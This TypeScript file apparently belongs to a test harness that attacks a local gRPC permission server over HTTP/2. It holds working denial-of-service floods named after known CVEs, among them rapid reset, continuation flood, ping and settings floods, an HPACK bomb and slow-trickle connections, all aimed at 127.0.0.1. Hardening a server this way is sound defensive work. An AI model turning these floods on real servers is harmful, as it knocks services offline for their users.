/** Attacks on HTTP/2 and HPACK, by the names under which they became known, for attacker-process.ts. Each starts a process: imports are few. */
import net from 'node:net';
import { create, toBinary } from '@bufbuild/protobuf';
import {
  BulkCheckRequestSchema,
  CheckRequestSchema,
  PermissionService,
} from '../../src/gen/usher/permission/v1/permission_pb.ts';
import {
  Flag,
  Frame,
  frame,
  MAX_PAYLOAD,
  message,
  NOTHING,
  PREFACE,
  padded,
  ping,
  priority,
  reset,
  settings,
  windowUpdate,
} from '../wire/frames.ts';
import { type Field, HpackEncoder, integer } from '../wire/hpack.ts';

/** What an attack is given. */
export interface Tools {
  readonly port: number;
  /** A key that may check: some attackers are customers. */
  readonly key: string;
  /** How many connections an attack of connections alone opens. */
  readonly connections: number;
  readonly isOver: () => boolean;
  readonly pause: (ms: number) => Promise<void>;
  /** One more thing was done. */
  readonly count: () => void;
  /** Connections that are made anew when they are cut, each written to as fast as it takes it. */
  readonly flood: (
    port: number,
    connections: number,
    first: Buffer,
    next: () => Buffer,
    reads?: boolean,
  ) => Promise<void>;
  /** Connections that send a few bytes now and then. */
  readonly trickle: (port: number, connections: number, first: Buffer, piece: () => Buffer) => Promise<void>;
}

const CHECK = `/${PermissionService.typeName}/Check`;
const HEALTH = '/grpc.health.v1.Health/Check';
const plain = { form: 'plain', huffman: false } as const;

/** A header block that neither uses nor changes the dynamic table. */
function block(path: string, ...more: readonly Field[]): Buffer {
  const fields: Field[] = [
    [':method', 'POST'],
    [':scheme', 'http'],
    [':path', path],
    [':authority', 'usher.test'],
    ['te', 'trailers'],
    ['content-type', 'application/grpc'],
    ...more,
  ];
  return new HpackEncoder().encode(fields, () => plain);
}

const CALL = block(CHECK);
const QUESTION = message(
  toBinary(
    CheckRequestSchema,
    create(CheckRequestSchema, { email: 'ann@example.com', app: 'shop', permission: 'read' }),
  ),
);
const HELLO = Buffer.concat([PREFACE, settings()]);
/** Clients whose answers have no room. */
const NO_WINDOW = Buffer.concat([PREFACE, settings([0x4, 0])]);

let lastStream = -1;
function nextStream(): number {
  lastStream += 2;
  return lastStream;
}

function many(count: number, make: (stream: number) => Buffer | readonly Buffer[]): Buffer {
  return Buffer.concat(Array.from({ length: count }, () => [make(nextStream())].flat()).flat());
}

function headers(stream: number, fields: Buffer, flags = 0): Buffer {
  return frame(Frame.HEADERS, Flag.END_HEADERS | flags, stream, fields);
}

/** A block that is too long for one frame. */
function inPieces(stream: number, fields: Buffer): Buffer[] {
  const made: Buffer[] = [];
  for (let at = 0; at < fields.length; at += MAX_PAYLOAD) {
    const last = at + MAX_PAYLOAD >= fields.length ? Flag.END_HEADERS : 0;
    made.push(
      frame(at === 0 ? Frame.HEADERS : Frame.CONTINUATION, last, stream, fields.subarray(at, at + MAX_PAYLOAD)),
    );
  }
  return made;
}

function question(stream: number, fields: Buffer, bytes = QUESTION): readonly Buffer[] {
  return [headers(stream, fields), frame(Frame.DATA, Flag.END_STREAM, stream, bytes)];
}

/** A question whose answer is long. */
function longQuestion(): Buffer {
  const permissions = Array.from({ length: 500 }, (_, index) => `orders.permission-${index}`);
  const fields = { email: 'ann@example.com', app: 'shop', permissions };
  return message(toBinary(BulkCheckRequestSchema, create(BulkCheckRequestSchema, fields)));
}

/** A name of 4,000 characters into the table, to be repeated by an index of one byte. */
const BOMB = Buffer.concat([Buffer.from([0x40, 1, 0x61]), integer(7, 0, 4000), Buffer.alloc(4000, 'x')]);

/** What makes a server reset a stream by itself, each within the rules of some reader. */
const PROVOKED: readonly ((stream: number) => Buffer)[] = [
  (stream) => windowUpdate(stream, 0),
  (stream) => Buffer.concat([windowUpdate(stream, 2 ** 31 - 1), windowUpdate(stream, 2 ** 31 - 1)]),
  (stream) => frame(Frame.PRIORITY, Flag.NONE, stream, priority(stream, 1)),
  (stream) => frame(Frame.PRIORITY, Flag.NONE, stream, Buffer.alloc(4)),
  (stream) => headers(stream, CALL),
  (stream) => frame(Frame.DATA, Flag.PADDED, stream, Buffer.from([0])),
  (stream) => frame(Frame.DATA, Flag.END_STREAM, stream, Buffer.alloc(5, 0xff)),
];

export function wireAttacks(tools: Tools): Record<string, () => Promise<void>> {
  const { port, flood, trickle } = tools;
  const authentic = block(CHECK, ['x-internal-api-key', tools.key]);
  const bulk = block(`/${PermissionService.typeName}/BulkCheck`, ['x-internal-api-key', tools.key]);
  const long = longQuestion();
  let turn = 0;
  return {
    'rapid reset (CVE-2023-44487)': () => flood(port, 2, HELLO, () => many(50, (id) => [headers(id, CALL), reset(id)])),
    'rapid reset of answered calls (CVE-2023-44487)': () =>
      flood(port, 2, HELLO, () => many(50, (id) => [...question(id, authentic), reset(id)])),
    'rapid reset of unknown methods and types (CVE-2023-44487)': () =>
      flood(port, 2, HELLO, () =>
        many(50, (id) => [
          headers(id, id % 4 === 1 ? Buffer.from([0x83, 0x86, 0x84, 0x41, 1, 0x78]) : block('/x')),
          reset(id),
        ]),
      ),
    'made you reset (CVE-2025-8671)': () =>
      flood(port, 2, HELLO, () => {
        const provoke = PROVOKED[turn++ % PROVOKED.length] as (stream: number) => Buffer;
        return many(20, (id) => [headers(id, turn % 2 === 0 ? CALL : block(HEALTH)), provoke(id)]);
      }),
    'continuation flood (CVE-2024-27316)': () =>
      flood(port, 2, Buffer.concat([HELLO, frame(Frame.HEADERS, Flag.NONE, 1, CALL)]), () =>
        Buffer.concat(
          Array.from({ length: 100 }, () => frame(Frame.CONTINUATION, 0, 1, Buffer.from([0x40, 1, 97, 1, 98]))),
        ),
      ),
    'connections cut within a continuation (CVE-2024-27983)': () =>
      cut(
        tools,
        Buffer.concat([HELLO, frame(Frame.HEADERS, Flag.NONE, 1, CALL), frame(Frame.CONTINUATION, 0, 1, CALL)]),
      ),
    'ping flood (CVE-2019-9512)': () => flood(port, 2, HELLO, () => repeated(200, ping()), false),
    'resource loop of priorities (CVE-2019-9513)': () =>
      flood(port, 2, HELLO, () =>
        Buffer.concat(
          Array.from({ length: 200 }, () => {
            const id = 1 + 2 * (turn++ % 100);
            return frame(Frame.PRIORITY, Flag.NONE, id, priority(1 + 2 * ((turn * 7) % 100), 255, true));
          }),
        ),
      ),
    'reset flood (CVE-2019-9514)': () =>
      flood(port, 2, HELLO, () => many(100, (id) => headers(id, Buffer.from([0x83, 0x83]))), false),
    'settings flood (CVE-2019-9515)': () => flood(port, 2, HELLO, () => repeated(200, settings()), false),
    'settings flood with entries (CVE-2019-9515)': () =>
      flood(port, 2, HELLO, () =>
        settings(...Array.from({ length: 500 }, (_, index): [number, number] => [0x4, index % 2 === 0 ? 0 : 65_535])),
      ),
    'headers without names (CVE-2019-9516)': () =>
      flood(port, 2, HELLO, () => many(10, (id) => headers(id, Buffer.alloc(3 * 2000, Buffer.from([0x40, 0, 0]))))),
    'internal data buffering (CVE-2019-9517)': () =>
      flood(
        port,
        4,
        Buffer.concat([PREFACE, settings([0x4, 2 ** 31 - 1]), windowUpdate(0, 2 ** 30)]),
        () => many(4, (id) => question(id, bulk, long)),
        false,
      ),
    'empty frames (CVE-2019-9518)': () =>
      flood(port, 2, Buffer.concat([HELLO, headers(1, CALL)]), () => repeated(500, frame(Frame.DATA, Flag.NONE, 1))),
    'data dribble (CVE-2019-9511)': () => dribble(tools, bulk, long),
    'windows of zero': () => flood(port, 4, NO_WINDOW, () => many(10, (id) => question(id, bulk, long))),
    'HPACK bomb (CVE-2016-6581)': () =>
      flood(port, 2, Buffer.concat([HELLO, headers(nextStream(), Buffer.concat([CALL, BOMB]))]), () =>
        many(2, (id) => headers(id, Buffer.concat([CALL, Buffer.alloc(16_000, 0xbe)]))),
      ),
    'table size storm': () =>
      flood(port, 2, HELLO, () =>
        many(50, (id) =>
          headers(id, Buffer.concat([Buffer.from([0x20, 0x3f, 0xe1, 0x1f]), CALL, Buffer.from([0x40, 1, 97, 1, 98])])),
        ),
      ),
    'header lists above the limit': () =>
      flood(port, 2, HELLO, () =>
        many(1, (id) =>
          inPieces(id, block(CHECK, ...Array.from({ length: 9 }, (_, n): Field => [`x-${n}`, 'v'.repeat(8000)]))),
        ),
      ),
    'huge padding': () =>
      flood(port, 2, Buffer.concat([HELLO, headers(1, CALL)]), () =>
        repeated(60, frame(Frame.DATA, Flag.PADDED, 1, padded(NOTHING, 255))),
      ),
    'unknown frames': () => flood(port, 2, HELLO, () => repeated(100, frame(0xee, 0xff, 3, Buffer.alloc(1000)))),
    'window update flood': () => flood(port, 2, HELLO, () => repeated(200, windowUpdate(0, 1))),
    'streams beyond the limit': () => flood(port, 2, HELLO, () => many(100, (id) => headers(id, authentic))),
    'streams at the end of their numbers': () =>
      flood(port, 2, Buffer.concat([HELLO, ...question(2 ** 31 - 1, CALL)]), () =>
        many(20, (id) => question(id, CALL)),
      ),
    'messages that never end': () =>
      flood(port, 4, HELLO, () =>
        many(4, (id) => [
          headers(id, authentic),
          frame(Frame.DATA, Flag.NONE, id, message(Buffer.alloc(4000), 0, 2 ** 20)),
        ]),
      ),
    'one-byte segments': () => bytewise(tools, (id) => Buffer.concat(question(id, authentic))),
    'headers that end byte by byte': () =>
      trickle(port, 200, Buffer.concat([HELLO, frame(Frame.HEADERS, Flag.NONE, 1, CALL)]), () =>
        frame(Frame.CONTINUATION, Flag.NONE, 1, NOTHING),
      ),
    'frames that never end': () =>
      trickle(port, 200, Buffer.concat([HELLO, headers(1, CALL), frame(Frame.DATA, 0, 1, NOTHING, 16_000)]), () =>
        Buffer.alloc(1),
      ),
    'half-closed sockets': () => halfClosed(tools, Buffer.concat([HELLO, many(20, (id) => question(id, authentic))])),
    'connections that stay': () => stay(tools),
  };
}

function repeated(count: number, bytes: Buffer): Buffer {
  return Buffer.alloc(count * bytes.length, bytes);
}

function connected(port: number, options: Partial<net.TcpNetConnectOpts> = {}): Promise<net.Socket> {
  const socket = net.connect({ port, host: '127.0.0.1', noDelay: true, ...options }).on('error', () => undefined);
  return new Promise((resolve) => {
    socket.once('connect', () => resolve(socket)).once('close', () => resolve(socket));
  });
}

/** Connections that are reset by TCP after their bytes. */
async function cut({ port, isOver, count, pause }: Tools, bytes: Buffer): Promise<void> {
  const lane = async (): Promise<void> => {
    while (!isOver()) {
      const socket = await connected(port);
      socket.write(bytes);
      await pause(1);
      socket.resetAndDestroy();
      count();
    }
  };
  await Promise.all(Array.from({ length: 20 }, lane));
}

/** Long answers, taken one byte at a time. */
async function dribble({ port, isOver, count, pause }: Tools, fields: Buffer, bytes: Buffer): Promise<void> {
  const lane = async (): Promise<void> => {
    while (!isOver()) {
      const socket = (await connected(port)).resume();
      const streams = Array.from({ length: 50 }, (_, index) => 1 + 2 * index);
      socket.write(Buffer.concat([NO_WINDOW, ...streams.flatMap((id) => question(id, fields, bytes))]));
      const grants = Buffer.concat(streams.map((id) => windowUpdate(id, 1)));
      while (!socket.destroyed && !isOver()) {
        socket.write(grants);
        count();
        await pause(1);
      }
      socket.destroy();
    }
  };
  await Promise.all(Array.from({ length: 4 }, lane));
}

async function bytewise({ port, isOver, count, pause }: Tools, call: (stream: number) => Buffer): Promise<void> {
  const lane = async (): Promise<void> => {
    while (!isOver()) {
      const socket = (await connected(port)).resume();
      socket.write(HELLO);
      for (let id = 1; !socket.destroyed && !isOver(); id += 2) {
        for (const byte of call(id)) {
          socket.write(Buffer.from([byte]));
          if (socket.writableLength > 0) await pause(0);
        }
        count();
        await pause(0);
      }
      socket.destroy();
    }
  };
  await Promise.all(Array.from({ length: 4 }, lane));
}

/** Says that it sends no more, and reads nothing. */
async function halfClosed({ port, isOver, count, pause }: Tools, bytes: Buffer): Promise<void> {
  const sockets: net.Socket[] = [];
  while (!isOver()) {
    const socket = await connected(port, { allowHalfOpen: true });
    socket.end(bytes);
    count();
    if (sockets.push(socket) > 200) sockets.shift()?.destroy();
    await pause(1);
  }
  for (const socket of sockets) socket.destroy();
}

/** As many connections as there may be, each with its session and nothing to say. */
async function stay({ port, isOver, connections, count, pause }: Tools): Promise<void> {
  const sockets: net.Socket[] = [];
  while (!isOver()) {
    while (sockets.length < connections && !isOver()) {
      const socket = (await connected(port)).resume();
      socket.write(HELLO);
      sockets.push(socket);
      count();
    }
    await pause(50);
  }
  for (const socket of sockets) socket.destroy();
}
